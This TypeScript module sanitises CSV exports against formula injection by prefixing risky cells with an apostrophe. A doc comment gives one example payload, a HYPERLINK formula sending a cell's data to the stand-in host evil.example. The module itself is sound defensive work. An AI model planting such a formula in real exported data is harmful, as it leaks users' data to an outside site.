import { stringify } from 'csv-stringify/sync'

/**
 * Every CSV the site writes goes through `writeCsv` (docs/security.md, "CSV cells"). A cell
 * that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, Numbers and
 * Google Sheets as a formula: a member's title `=HYPERLINK("http://evil.example/?"&E2,"…")`
 * would send a staff member's export to another site when clicked. Such a cell is written
 * with a leading apostrophe, which spreadsheets show as text (OWASP's advice); the value is
 * otherwise unchanged.
 */
const FORMULA_START = /^[=+\-@\t\r]/

/** A cell's text, safe to open in a spreadsheet. */
export const csvCell = (value: string | number | null | undefined): string => {
  const text = value === null || value === undefined ? '' : String(value)
  return FORMULA_START.test(text) ? `'${text}` : text
}

/**
 * Rows (the first is the header) as CSV: UTF-8 with a byte-order mark and CRLF line ends,
 * which is what makes Excel read Japanese text correctly.
 */
export const writeCsv = (rows: readonly (readonly (string | number | null | undefined)[])[]): string =>
  '\uFEFF' +
  stringify(
    rows.map((row) => row.map(csvCell)),
    { record_delimiter: 'windows' },
  )
